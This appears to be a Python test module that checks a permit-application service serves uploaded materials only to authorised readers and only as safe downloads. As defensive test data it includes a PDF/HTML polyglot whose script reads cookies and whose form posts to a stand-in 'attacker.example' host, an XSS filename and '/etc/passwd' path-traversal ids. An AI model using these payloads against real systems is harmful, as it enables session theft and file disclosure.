"""Reading a material's file back (GET .../materials/{id}/content) on PostgreSQL: whoever may read the
application gets it as a download in the type its content was found to be, never as a page; everyone else
learns nothing (404), and a material id is only ever looked up inside the application named in the path.

Attacks kept here: another citizen's application id, a material id of another application, path tricks in
the ids, staff of another department or region, a draft's files before submission, an enterprise agent
without the read scope or of another enterprise, a file that is a PDF by its first bytes and HTML after.
"""

from __future__ import annotations

import base64
import hashlib
import re
import uuid
from typing import Any
from urllib.parse import unquote

import pytest

from ..conftest import PDF, PNG

# Accepted by content sniffing as a PDF (it begins with %PDF), and an HTML page for a browser that sniffs.
POLYGLOT = (
    b"%PDF-1.4\n<!doctype html><html><head><title>pwned</title></head><body>"
    b"<script>document.title = document.cookie; fetch('/api/identity/v1/me')</script>"
    b"<form action='https://attacker.example/'><input name=p></form></body></html>\n%%EOF\n"
)


def content_url(app_id: str, material_id: str) -> str:
    return f"/v1/applications/{app_id}/materials/{material_id}/content"


async def submitted_with(svc: Any, headers: dict[str, str], content: bytes, filename: str) -> tuple[dict, dict]:
    """A submitted application whose plan (经营场所平面图) is ``content`` uploaded as ``filename``."""
    draft = (await svc.create(headers, code=svc.items[0])).json()
    await svc.upload(draft["id"], headers, "营业执照")
    plan = await svc.upload(draft["id"], headers, "经营场所平面图", content, filename)
    assert plan.status_code == 201, plan.text
    submitted = await svc.submit(draft["id"], headers)
    assert submitted.status_code == 200, submitted.text
    return submitted.json(), plan.json()


def assert_download(resp: Any, *, media_type: str, content: bytes, saved_as: str) -> None:
    assert resp.status_code == 200, resp.text
    assert resp.content == content
    assert resp.headers["content-type"] == media_type, "the sniffed type, never text/html"
    disposition = resp.headers["content-disposition"]
    assert disposition.startswith("attachment; filename=")
    assert disposition.endswith(saved_as) or f'filename="{saved_as}"' in disposition, disposition
    assert resp.headers["x-content-type-options"] == "nosniff"
    assert resp.headers["content-security-policy"] == "default-src 'none'; frame-ancestors 'none'; sandbox"
    assert resp.headers["cross-origin-resource-policy"] == "same-origin"
    assert resp.headers["cache-control"] == "private, no-store"
    assert resp.headers["content-length"] == str(len(content))
    digest = base64.b64encode(hashlib.sha256(content).digest()).decode()
    assert resp.headers["repr-digest"] == f"sha-256=:{digest}:"


async def test_the_applicant_reads_their_file_back_as_a_download(svc) -> None:
    citizen = svc.citizen("citizen-1")
    draft = (await svc.create(citizen, code=svc.items[0])).json()
    up = await svc.upload(draft["id"], citizen, "营业执照", PDF, "营业执照 副本.pdf")
    assert up.status_code == 201
    material = up.json()

    # The upload's Location is a resource: the material, and its file beside it.
    described = await svc.client.get(up.headers["location"], headers=citizen)
    assert described.status_code == 200 and described.json() == material
    resp = await svc.client.get(content_url(draft["id"], material["id"]), headers=citizen)
    assert_download(resp, media_type="application/pdf", content=PDF, saved_as="%E5%89%AF%E6%9C%AC.pdf")
    assert 'filename="material.pdf"' in resp.headers["content-disposition"], "ASCII fallback for old clients"

    png = (await svc.upload(draft["id"], citizen, "经营场所平面图", PNG, "plan.pdf")).json()
    resp = await svc.client.get(content_url(draft["id"], png["id"]), headers=citizen)
    assert_download(resp, media_type="image/png", content=PNG, saved_as="plan.png")


async def test_a_pdf_that_carries_html_is_never_served_as_a_page(svc) -> None:
    citizen = svc.citizen("citizen-1")
    app, plan = await submitted_with(svc, citizen, POLYGLOT, "<img src=x onerror=alert(1)>.html")
    assert plan["media_type"] == "application/pdf", "accepted today: the first bytes make it a PDF"
    for headers in (citizen, svc.staff()):
        resp = await svc.client.get(
            content_url(app["id"], plan["id"]), headers={**headers, "Accept": "text/html,*/*;q=0.1"}
        )
        assert_download(resp, media_type="application/pdf", content=POLYGLOT, saved_as=".pdf")
        disposition = resp.headers["content-disposition"]
        plain = re.match(r'attachment; filename="([^"]*)"(?:; filename\*=UTF-8\'\'(\S+))?$', disposition)
        assert plain, disposition
        for name in (plain[1], unquote(plain[2] or "")):
            assert not re.search(r"[<>\"]|\.html", name) and name.endswith(".pdf"), name


async def test_case_staff_and_supervisors_read_a_submitted_applications_files(svc) -> None:
    app, plan = await submitted_with(svc, svc.citizen("citizen-1"), PDF, "plan.pdf")
    url = content_url(app["id"], plan["id"])
    for headers in (svc.staff(), svc.staff(roles=("reviewer",), region="450000"), svc.staff("sup", ("supervisor",))):
        assert (await svc.client.get(url, headers=headers)).status_code == 200


@pytest.mark.parametrize(
    "who",
    ["other citizen", "staff other department", "staff other region", "staff not a case role", "system", "agent"],
)
async def test_whoever_may_not_read_the_application_learns_nothing(svc, who: str) -> None:
    app, plan = await submitted_with(svc, svc.citizen("citizen-1"), PDF, "plan.pdf")
    headers = {
        "other citizen": svc.citizen("citizen-2"),
        "staff other department": svc.staff(department="11450100MB0000000X"),
        "staff other region": svc.staff(region="450200"),
        "staff not a case role": svc.staff(roles=("finance",)),
        "system": svc.system("svc-x", ("application.applications.read",)),
        "agent": svc.enterprise(),
    }[who]
    for url in (content_url(app["id"], plan["id"]), f"/v1/applications/{app['id']}/materials/{plan['id']}"):
        resp = await svc.client.get(url, headers=headers)
        assert resp.status_code == 404, resp.text
        assert resp.json()["type"].endswith(":application-not-found"), "the same answer as for no application"
        assert "content-disposition" not in resp.headers


async def test_a_drafts_files_are_the_applicants_alone(svc) -> None:
    citizen = svc.citizen("citizen-1")
    draft = (await svc.create(citizen, code=svc.items[0])).json()
    plan = (await svc.upload(draft["id"], citizen, "经营场所平面图")).json()
    assert (await svc.client.get(content_url(draft["id"], plan["id"]), headers=citizen)).status_code == 200
    staff = await svc.client.get(content_url(draft["id"], plan["id"]), headers=svc.staff())
    assert staff.status_code == 404 and staff.json()["type"].endswith(":application-not-found")


async def test_a_material_is_looked_up_only_inside_the_application_in_the_path(svc) -> None:
    citizen = svc.citizen("citizen-1")
    mine, my_plan = await submitted_with(svc, citizen, PDF, "mine.pdf")
    theirs, their_plan = await submitted_with(svc, svc.citizen("citizen-2"), PNG, "theirs.png")
    # Another citizen's material named under my own application (both ids real): not found, nothing sent.
    crossed = await svc.client.get(content_url(mine["id"], their_plan["id"]), headers=citizen)
    assert crossed.status_code == 404 and crossed.json()["type"].endswith(":material-not-found")
    assert PNG not in crossed.content
    # Staff who see both cases still cannot mix them.
    mixed = await svc.client.get(content_url(theirs["id"], my_plan["id"]), headers=svc.staff())
    assert mixed.status_code == 404 and mixed.json()["type"].endswith(":material-not-found")
    unknown = await svc.client.get(content_url(mine["id"], str(uuid.uuid4())), headers=citizen)
    assert unknown.status_code == 404 and unknown.json()["type"].endswith(":material-not-found")


@pytest.mark.parametrize(
    "material",
    [
        "..%2F..%2F..%2Fetc%2Fpasswd",
        "..",
        "%2e%2e",
        "0" * 64,  # a digest, not a material id: storage names are never taken from the request
        "{sha}",
        "{id}%00",
        "{id}/..",
    ],
)
async def test_path_tricks_in_the_ids_reach_no_file(svc, material: str) -> None:
    citizen = svc.citizen("citizen-1")
    app, plan = await submitted_with(svc, citizen, PDF, "plan.pdf")
    path = f"/v1/applications/{app['id']}/materials/{material.format(sha=plan['sha256'], id=plan['id'])}/content"
    resp = await svc.client.get(path, headers=citizen)
    assert resp.status_code in (404, 422), (path, resp.status_code)
    assert resp.headers["content-type"] == "application/problem+json"
    assert resp.content != PDF


async def test_enterprise_agents_read_within_their_grant(svc) -> None:
    agent = svc.enterprise("agent-1")
    app = (await svc.create(agent, code=svc.items[0], applicant={"name": "南宁小食有限公司"})).json()
    plan = (await svc.upload(app["id"], agent, "经营场所平面图", PNG, "plan.png")).json()
    url = content_url(app["id"], plan["id"])
    read_only = svc.enterprise("agent-2", scopes=("application.applications.read",))
    assert (await svc.client.get(url, headers=read_only)).content == PNG
    no_scope = await svc.client.get(url, headers=svc.enterprise("agent-3", scopes=()))
    assert no_scope.status_code == 403 and no_scope.json()["type"].endswith(":insufficient-scope")
    other = await svc.client.get(url, headers=svc.enterprise("agent-4", enterprise="91450100MA5KYYYY2Y"))
    assert other.status_code == 404
    as_citizen = await svc.client.get(url, headers=svc.citizen("agent-1"))
    assert as_citizen.status_code == 404, "the agent's own citizen token does not carry the enterprise's grant"


async def test_an_e_license_material_has_no_file_and_a_lost_file_is_an_error(svc) -> None:
    citizen = svc.citizen("citizen-1")
    svc.wallets["citizen-1"] = [{"license_id": "lic-1", "type_code": "营业执照", "status": "active"}]
    draft = (await svc.create(citizen, code=svc.items[0])).json()
    reused = await svc.client.post(
        f"/v1/applications/{draft['id']}/materials/license",
        json={"name": "营业执照", "license_id": "lic-1"},
        headers=citizen,
    )
    assert reused.status_code == 201, reused.text
    resp = await svc.client.get(content_url(draft["id"], reused.json()["id"]), headers=citizen)
    assert resp.status_code == 404 and resp.json()["type"].endswith(":material-has-no-file")

    plan = (await svc.upload(draft["id"], citizen, "经营场所平面图", b"%PDF-1.4\nlost\n", "lost.pdf")).json()
    svc.app.state.application.storage.path_of(plan["sha256"]).unlink()
    lost = await svc.client.get(content_url(draft["id"], plan["id"]), headers=citizen)
    assert lost.status_code == 500 and lost.json()["type"].endswith(":material-content-missing")
    assert "content-disposition" not in lost.headers


async def test_no_token_no_file(svc) -> None:
    app, plan = await submitted_with(svc, svc.citizen("citizen-1"), PDF, "plan.pdf")
    resp = await svc.client.get(content_url(app["id"], plan["id"]))
    assert resp.status_code == 401 and resp.content != PDF
